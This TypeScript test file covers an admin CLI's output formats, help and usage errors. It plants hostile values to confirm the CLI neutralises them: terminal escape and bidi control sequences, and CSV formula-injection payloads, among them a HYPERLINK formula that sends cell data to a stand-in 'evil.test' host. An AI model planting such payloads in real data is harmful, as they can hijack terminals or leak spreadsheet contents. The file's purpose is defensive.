/**
 * Output formats, terminal versus pipe, what data can do to its readers (control and bidi
 * characters, spreadsheet formulas, unknown --fields), help, suggestions and usage errors, in-process.
 */
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DEMO_PASSWORD, type RunningSandbox } from '@matchmaker/sandbox';
import { createClient } from '@matchmaker/sdk';
import type { UpdateUserInput } from '@matchmaker/sdk/schemas';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { cli, envFor, login, memberIds, sandbox, tempDir, writeInput } from './support/cli';

let box: RunningSandbox;
let env: NodeJS.ProcessEnv;
// biome-ignore lint/suspicious/noControlCharactersInRegex: looking for escape sequences
const ANSI = /\u001b\[/;
/** Characters a terminal acts on instead of showing: C0 but the line feed, DEL, C1, bidi controls. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: looking for them is the point
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
// biome-ignore lint/suspicious/noControlCharactersInRegex: the CLI's own colours
const OWN_COLOURS = /\u001b\[(?:1|2|22|31|33|39)m/g;
const HOSTILE = '\u001b[31mRED\u001b]0;TITLE\u0007/../x\u202eabc\u009b';
const HOSTILE_SHOWN = '\\u001b[31mRED\\u001b]0;TITLE\\u0007/../x\\u202eabc\\u009b';

beforeAll(async () => {
  box = await sandbox();
  env = envFor(box);
  expect((await login(env)).code).toBe(0);
});

describe('formats', () => {
  it('csv and ndjson carry the same records as json; --fields picks dotted paths', async () => {
    const asJson = JSON.parse((await cli(['users', 'search', '-o', 'json'], { env })).stdout);
    const asNdjson = (await cli(['users', 'search', '-o', 'ndjson'], { env })).stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(asNdjson).toEqual(asJson);
    const csv = (await cli(['users', 'search', '-o', 'csv', '--fields', 'id,email,roles'], { env })).stdout;
    const rows = parse(csv, { columns: true });
    expect(rows).toHaveLength(15);
    expect(rows[0]).toEqual({ id: asJson[0].id, email: asJson[0].email, roles: asJson[0].roles.join(', ') });
    const nested = await cli(['kyc', 'list', '-o', 'csv', '--fields', 'id,user_info.username'], { env });
    expect(nested.stdout.split('\n')[0]).toBe('id,user_info.username');
    expect(nested.stdout.split('\n')[1]).toMatch(/^kyc-\d+,[a-z.]+/);
    const single = JSON.parse(
      (await cli(['stats', 'users', '-o', 'json', '--fields', 'total,by_status.active'], { env })).stdout,
    );
    expect(Object.keys(single)).toEqual(['total', 'by_status.active']);
  });

  it('a record table shows lists of records as their own tables, never as JSON', async () => {
    const stats = JSON.parse((await cli(['stats', 'users', '-o', 'json'], { env })).stdout);
    const shown = (await cli(['stats', 'users'], { env })).stdout;
    expect(shown).not.toContain('[{');
    expect(shown).toMatch(/^total\s+\d+$/m);
    const section = shown.split('\n\n').find((part) => part.startsWith('by_religion\n'));
    expect(section?.split('\n').slice(0, 3)).toEqual([
      'by_religion',
      expect.stringMatching(/^RELIGION\s+COUNT$/),
      expect.stringMatching(
        new RegExp(`^${stats.by_religion[0].religion}\\s+${stats.by_religion[0].count}$`),
      ),
    ]);
    const chosen = (await cli(['stats', 'users', '--fields', 'total,by_sex'], { env })).stdout;
    expect(chosen).toMatch(/^total\s+\d+\n\nby_sex\nSEX\s+COUNT\n/);
  });

  it('on a narrow terminal a table too wide to fit keeps whole columns and says which it left out', async () => {
    const [first] = JSON.parse(
      (await cli(['users', 'search', '-o', 'json', '--fields', 'id'], { env })).stdout,
    );
    const shown = await cli(['users', 'get', first.id, '--fields', 'id,images'], {
      env: { ...env, NO_COLOR: '1' },
      tty: true,
      columns: 80,
    });
    const lines = shown.stdout.trimEnd().split('\n');
    for (const line of lines) expect(line.length).toBeLessThanOrEqual(80);
    expect(lines).toContainEqual(
      expect.stringMatching(/^\d+ more columns? not shown \([A-Z_, …]+\): use --fields or -o json$/),
    );
  });

  it('one record as csv has a header line naming its columns', async () => {
    const [first] = JSON.parse(
      (await cli(['users', 'search', '-o', 'json', '--fields', 'id'], { env })).stdout,
    );
    const csv = (await cli(['users', 'get', first.id, '-o', 'csv', '--fields', 'id,username'], { env }))
      .stdout;
    const rows: Record<string, string>[] = parse(csv, { columns: true });
    expect(rows).toHaveLength(1);
    expect(rows[0]?.id).toBe(first.id);
    expect(Object.keys(rows[0] ?? {})).toEqual(['id', 'username']);
  });

  it('an empty list is [] in json, nothing in a piped table', async () => {
    expect((await cli(['users', 'search', 'zzzz-nobody', '-o', 'json'], { env })).stdout).toBe('[]\n');
    expect((await cli(['users', 'search', 'zzzz-nobody'], { env })).stdout).toBe('');
  });

  it('a piped table has no colour and ISO dates; a terminal gets colour (unless NO_COLOR) and short dates', async () => {
    const piped = await cli(['users', 'search', '--limit', '3'], { env });
    expect(piped.stdout).not.toMatch(ANSI);
    expect(piped.stdout).toMatch(/\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z/);
    const terminal = await cli(['users', 'search', '--limit', '3'], { env, tty: true, columns: 200 });
    expect(terminal.stdout).toMatch(ANSI);
    expect(terminal.stdout).not.toMatch(/T\d{2}:\d{2}:\d{2}\.\d{3}Z/);
    expect(terminal.stdout).toMatch(/\d{4}-\d{2}-\d{2} \d{2}:\d{2}/);
    const noColor = await cli(['users', 'search', '--limit', '3'], {
      env: { ...env, NO_COLOR: '1' },
      tty: true,
    });
    expect(noColor.stdout).not.toMatch(ANSI);
    const forced = await cli(['users', 'search', '--limit', '3'], { env: { ...env, FORCE_COLOR: '1' } });
    expect(forced.stdout).toMatch(ANSI);
    const narrow = await cli(['users', 'search', '--limit', '3'], {
      env: { ...env, NO_COLOR: '1' },
      tty: true,
      columns: 80,
    });
    for (const line of narrow.stdout.trimEnd().split('\n')) expect(line.length).toBeLessThanOrEqual(80);
  });

  it('control characters in API data never reach a table', async () => {
    const [first] = JSON.parse(
      (await cli(['users', 'search', '-o', 'json', '--fields', 'id'], { env })).stdout,
    );
    await cli(['users', 'edit', first.id, '--about', 'evil\u001b[2Jtext\nnext'], { env });
    const shown = await cli(['users', 'get', first.id, '--fields', 'about'], { env });
    expect(shown.stdout).toBe('about  evil [2Jtext next\n');
  });
});

describe('messages on stderr show control and bidi characters escaped', () => {
  it('a bulk row note, piped and on a terminal', async () => {
    const input = writeInput(tempDir(), 'esc.ndjson', `${JSON.stringify({ id: HOSTILE })}\n`);
    for (const tty of [false, true]) {
      const result = await cli(['bulk', 'reactivate', '-i', input, '--dry-run'], { env, tty });
      expect(result.code).toBe(3);
      expect(result.stderr).toContain(`line 1: invalid id '${HOSTILE_SHOWN}'`);
      expect(result.stderr.replace(OWN_COLOURS, '')).not.toMatch(UNSAFE);
    }
  });

  it("usage errors and the error handler's messages keep their own colour, not the data's", async () => {
    const flag = await cli(['users', 'search', `--bogus${HOSTILE}`], { env, tty: true });
    expect(flag.code).toBe(2);
    expect(flag.stderr).toContain('\u001b[31m');
    expect(flag.stderr).toContain(`--bogus${HOSTILE_SHOWN}`);
    expect(flag.stderr.replace(OWN_COLOURS, '')).not.toMatch(UNSAFE);

    const base = await cli(['users', 'search', '--api-base', HOSTILE], { env, tty: true });
    expect(base.code).toBe(2);
    expect(base.stderr).toBe(
      `\u001b[31mError:\u001b[39m Invalid API base '${HOSTILE_SHOWN}' (from --api-base): give a URL such as http://127.0.0.1:8080\n`,
    );
  });

  it('in json mode the error stays one valid JSON object carrying the exact text', async () => {
    const result = await cli(['users', 'search', '-o', 'json', '--api-base', HOSTILE], { env });
    expect(result.code).toBe(2);
    expect(result.stderr).not.toMatch(UNSAFE);
    expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(JSON.parse(result.stderr).message).toContain(`'${HOSTILE}'`);
  });
});

describe('data on a terminal', () => {
  const about = 'x\u202ey\u2066z\u001b[2J\u009bw\u007f';
  let id = '';
  beforeAll(async () => {
    [id = ''] = memberIds(box, 1);
    expect((await cli(['users', 'edit', id, '--about', about], { env })).code).toBe(0);
  });

  it('tables replace bidi controls as they do other controls', async () => {
    const shown = await cli(['users', 'get', id, '--fields', 'about'], { env });
    expect(shown.stdout).toBe('about  x y z [2J w\n');
  });

  it('csv, ndjson and json show them escaped on a terminal, byte-exact when piped', async () => {
    for (const format of ['csv', 'ndjson', 'json']) {
      const args = ['users', 'get', id, '-o', format, '--fields', 'id,about'];
      const piped = await cli(args, { env });
      const onTerminal = await cli(args, { env, tty: true });
      expect(onTerminal.stdout).not.toMatch(UNSAFE);
      if (format === 'csv') {
        expect(parse(piped.stdout, { columns: true })).toEqual([{ id, about }]);
        expect(onTerminal.stdout).toContain('x\\u202ey\\u2066z\\u001b[2J\\u009bw\\u007f');
      } else {
        // JSON escapes stay JSON: the terminal shows the same value a program reads.
        expect(JSON.parse(piped.stdout).about).toBe(about);
        expect(JSON.parse(onTerminal.stdout).about).toBe(about);
      }
    }
  });
});

/**
 * Stores profile values through the API, as the web app or any client could: `users edit` trims text and
 * takes only known countries and religions, so it cannot plant these.
 */
async function plant(id: string, values: UpdateUserInput): Promise<void> {
  const client = createClient({ baseURL: box.url, locks: null });
  await client.accounts.login({ email: 'admin@sandbox.test', password: DEMO_PASSWORD });
  await client.admin.updateUser(id, values);
}

describe('csv cells that a spreadsheet would run as formulas', () => {
  const formula = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
  let id = '';
  beforeAll(async () => {
    // A member west of Greenwich: a negative number must stay a number.
    const west = memberIds(box, 50).filter(
      (member) => (box.world.store.data.users[member]?.longitude ?? 0) < 0,
    );
    id = west[1] ?? '';
    await plant(id, {
      first_name: formula,
      last_name: '\t+1',
      occupation: '\r@SUM(1)',
      about: '-2+3',
      city: 'Plain',
    });
  });

  it('are prefixed with a single quote in lists and single records; numbers stay numbers', async () => {
    const fields = 'id,first_name,last_name,occupation,about,city,height,longitude';
    const expected = {
      id,
      first_name: `'${formula}`,
      last_name: "'\t+1",
      occupation: "'\r@SUM(1)",
      about: "'-2+3",
      city: 'Plain',
    };
    const raw = JSON.parse((await cli(['users', 'get', id, '-o', 'json'], { env })).stdout);
    expect(raw.longitude).toBeLessThan(0);
    for (const args of [
      ['users', 'search', 'HYPERLINK'],
      ['users', 'get', id],
    ]) {
      const csv = await cli([...args, '-o', 'csv', '--fields', fields], { env });
      expect(csv.code).toBe(0);
      expect(parse(csv.stdout, { columns: true })).toEqual([
        { ...expected, height: String(raw.height), longitude: String(raw.longitude) },
      ]);
    }
  });

  it('json and ndjson keep the raw values', async () => {
    const json = JSON.parse((await cli(['users', 'get', id, '-o', 'json'], { env })).stdout);
    expect(json.first_name).toBe(formula);
    const ndjson = await cli(['users', 'search', 'HYPERLINK', '-o', 'ndjson', '--fields', 'first_name'], {
      env,
    });
    expect(JSON.parse(ndjson.stdout)).toEqual({ first_name: formula });
  });

  it('after leading spaces, no-break or other Unicode spaces, and in fullwidth form, too', async () => {
    // Spreadsheets skip leading whitespace before a formula; some locales take ＝ ＋ － ＠ for = + - @.
    const [, , other = ''] = memberIds(box, 50).filter(
      (member) => (box.world.store.data.users[member]?.longitude ?? 0) < 0,
    );
    const values = {
      first_name: '  =1+2',
      last_name: '\u00a0+SUM(1)',
      occupation: '\u3000\u2003@cmd',
      about: '\uff1dHYPERLINK("http://evil.test")',
      city: ' \t\u00a0\uff0b1',
      state: '\uff0d2',
      country: '\u2007\uff20x',
      religion: '  Plain, spaced',
    };
    await plant(other, values);
    const raw = JSON.parse((await cli(['users', 'get', other, '-o', 'json'], { env })).stdout);
    expect(raw).toMatchObject(values);
    expect(raw.longitude).toBeLessThan(0);
    const fields = ['id', ...Object.keys(values), 'height', 'longitude'];
    const csv = await cli(['users', 'get', other, '-o', 'csv', '--fields', fields.join(',')], { env });
    expect(csv.code).toBe(0);
    const guarded = Object.fromEntries(
      Object.entries(values).map(([field, value]) => [field, field === 'religion' ? value : `'${value}`]),
    );
    expect(parse(csv.stdout, { columns: true })).toEqual([
      { id: other, ...guarded, height: String(raw.height), longitude: String(raw.longitude) },
    ]);
  });
});

describe('--fields naming a field the records do not have', () => {
  it('is a usage error naming it and the closest field, before any output', async () => {
    for (const format of ['table', 'json', 'ndjson', 'csv']) {
      const list = await cli(['users', 'search', '--all', '-o', format, '--fields', 'id,emial'], { env });
      expect(list.code).toBe(2);
      expect(list.stdout).toBe('');
      expect(list.stderr).toContain("unknown field 'emial'");
      expect(list.stderr).toContain("did you mean 'email'?");
    }
    const [id = ''] = memberIds(box, 1);
    const one = await cli(['users', 'get', id, '--fields', 'Email'], { env });
    expect(one.code).toBe(2);
    expect(one.stderr).toContain("did you mean 'email'?");
    const nested = await cli(['kyc', 'list', '-o', 'json', '--fields', 'id,user_info.usrname'], { env });
    expect(nested.code).toBe(2);
    expect(nested.stderr).toContain("did you mean 'user_info.username'?");
    const far = await cli(['users', 'search', '--fields', 'zzzzzz'], { env });
    expect(far.code).toBe(2);
    expect(far.stderr).not.toContain('did you mean');
  });

  it('known fields pass: null ones, nested paths, whole objects', async () => {
    const ok = await cli(['users', 'search', '-o', 'csv', '--fields', 'id,referrer'], { env });
    expect(ok.code).toBe(0);
    const stats = await cli(
      ['stats', 'users', '-o', 'json', '--fields', 'total,by_status.active,by_status'],
      {
        env,
      },
    );
    expect(stats.code).toBe(0);
    const kyc = await cli(['kyc', 'list', '-o', 'csv', '--fields', 'id,user_info'], { env });
    expect(kyc.code).toBe(0);
  });
});

describe('colour', () => {
  it('FORCE_COLOR wins over NO_COLOR', async () => {
    const both = await cli(['users', 'search', '--limit', '1'], {
      env: { ...env, NO_COLOR: '1', FORCE_COLOR: '1' },
    });
    expect(both.stdout).toContain('\u001b[1m');
  });
});

describe('help, suggestions and usage errors (exit 2)', () => {
  it('--help lists every command and the exit codes', async () => {
    const help = await cli(['--help'], { env });
    expect(help.code).toBe(0);
    for (const word of ['login', 'users', 'kyc', 'images', 'features', 'bulk', 'completion']) {
      expect(help.stdout).toMatch(new RegExp(`^  ${word}\\b`, 'm'));
    }
    expect(help.stdout).toContain(
      'Exit codes: 0 ok, 1 error, 2 usage or bad input, 3 bulk run with failed rows',
    );
    const users = await cli(['users', '--help'], { env });
    // set-email has an option of its own now (--dry-run).
    expect(users.stdout).toMatch(/set-email \[options\] <id> <email>/);
    const bulk = await cli(['help', 'bulk'], { env });
    expect(bulk.code).toBe(0);
    expect(bulk.stdout).toContain('--retry-failed');
    const incomplete = await cli(['users'], { env });
    expect(incomplete.code).toBe(2);
    expect(incomplete.stderr).toContain('Usage: matchmaker users');
  });

  it("--api-base's help gives the order the API base is found in, in two lines of an 80-column terminal", async () => {
    const help = await cli(['--help'], { env, columns: 80 });
    const lines = help.stdout.split('\n');
    const first = lines.findIndex((line) => line.startsWith('  --api-base <url>'));
    const entry = [lines[first] ?? ''];
    // Its description goes on in lines indented past the option names.
    for (const line of lines.slice(first + 1)) {
      if (!/^ {3,}\S/.test(line)) break;
      entry.push(line);
    }
    expect(entry.length).toBeLessThanOrEqual(2);
    for (const line of entry) expect(line.length).toBeLessThanOrEqual(80);
    // The order of context.ts: the flag, the variable, config.json, the credentials' issuer, the default.
    expect(entry.map((line) => line.trim()).join(' ')).toMatch(
      /^--api-base <url> .*MATCHMAKER_API_BASE.*profile.*config\.json.*credentials.*http:\/\/127\.0\.0\.1:8080\)?$/,
    );
  });

  it('help fits an 80-column terminal, its closing paragraph on exit codes too', async () => {
    for (const args of [['--help'], ['bulk', '--help'], ['users', 'search', '--help']]) {
      const help = await cli(args, { env, columns: 80 });
      const wide = help.stdout.split('\n').filter((line) => line.length > 80);
      expect(wide, args.join(' ')).toEqual([]);
    }
    // Wider, the paragraph takes the width too, and says the same.
    const wide = await cli(['--help'], { env, columns: 120 });
    const lines = wide.stdout.split('\n');
    const first = lines.findIndex((line) => line.startsWith('Exit codes:'));
    expect(lines[first]?.length).toBeGreaterThan(100);
    expect(lines.slice(first).join(' ')).toContain('4 not signed in or not allowed, 130 interrupted');
  });

  it('help fits a 60-column terminal: a description with too little room beside its term goes under it', async () => {
    for (const args of [['--help'], ['users', '--help'], ['bulk', '--help'], ['users', 'search', '--help']]) {
      const help = await cli(args, { env, columns: 60 });
      // Examples are commands, copied whole, so they are not wrapped.
      const body = help.stdout.split('\nExamples:')[0] ?? '';
      const wide = body.split('\n').filter((line) => line.length > 60);
      expect(wide, args.join(' ')).toEqual([]);
    }
    const lines = (await cli(['users', '--help'], { env, columns: 60 })).stdout.split('\n');
    const term = lines.findIndex((line) => line.startsWith('  deactivate [options] <id>'));
    expect(lines[term]?.trim()).toBe('deactivate [options] <id>');
    expect(lines[term + 1]).toMatch(/^ {6}deactivate a user/);
    // At 80 columns there is room: the description stays beside its term.
    const roomy = (await cli(['users', '--help'], { env, columns: 80 })).stdout;
    expect(roomy).toMatch(/^ {2}deactivate \[options\] <id> +deactivate a user/m);
  });

  it('unknown commands and flags suggest the closest one', async () => {
    const command = await cli(['usres', 'search'], { env });
    expect(command.code).toBe(2);
    expect(command.stderr).toContain("unknown command 'usres'");
    expect(command.stderr).toContain('(Did you mean users?)');
    const sub = await cli(['users', 'serch'], { env });
    expect(sub.code).toBe(2);
    expect(sub.stderr).toContain('(Did you mean search?)');
    const flag = await cli(['users', 'search', '--stauts', 'active'], { env });
    expect(flag.code).toBe(2);
    expect(flag.stderr).toContain('(Did you mean --status?)');
  });

  it('bad option values exit 2; in json mode the error is one JSON object on stderr', async () => {
    const format = await cli(['users', 'search', '-o', 'yaml'], { env });
    expect(format.code).toBe(2);
    expect(format.stderr).toContain('Allowed choices are table, json, ndjson, csv');
    const page = await cli(['users', 'search', '--page', '0', '-o', 'json'], { env });
    expect(page.code).toBe(2);
    expect(JSON.parse(page.stderr)).toEqual({
      code: 'USAGE',
      message: expect.stringContaining('--page must be'),
    });
    const notFound = await cli(['users', 'get', 'nobody', '-o', 'json'], { env });
    expect(notFound.code).toBe(1);
    expect(JSON.parse(notFound.stderr)).toEqual({
      code: 'NOT_FOUND',
      message: 'User not found (HTTP 404, admin.getUser)',
    });
    const fields = await cli(['users', 'search', '--fields', ' , '], { env });
    expect(fields.code).toBe(2);
  });

  it('an unreachable API exits 1 and names the API base', async () => {
    // A token of its own: the stored credentials belong to the sandbox and are never sent elsewhere.
    const dead = await cli(['users', 'search', '--api-base', 'http://127.0.0.1:9'], {
      env: { ...env, MATCHMAKER_TOKEN: 'ci-token' },
    });
    expect(dead.code).toBe(1);
    expect(dead.stderr).toContain('Cannot reach the API at http://127.0.0.1:9');
    const invalid = await cli(['users', 'search', '--api-base', 'ftp://x'], { env });
    expect(invalid.code).toBe(2);
  });
});

describe('completion', () => {
  it('prints bash, zsh and fish scripts naming every command; bash and zsh parse', async () => {
    const dir = tempDir();
    for (const shell of ['bash', 'zsh', 'fish']) {
      const result = await cli(['completion', shell], { env });
      expect(result.code).toBe(0);
      expect(result.stdout).toContain('matchmaker');
      expect(result.stdout).toContain('deactivate');
      expect(result.stdout).toContain('retry-failed');
      if (shell === 'bash') {
        const file = join(dir, 'completion.bash');
        writeFileSync(file, result.stdout);
        execFileSync('bash', ['-n', file]);
      }
    }
    expect((await cli(['completion', 'powershell'], { env })).code).toBe(2);
  });
});
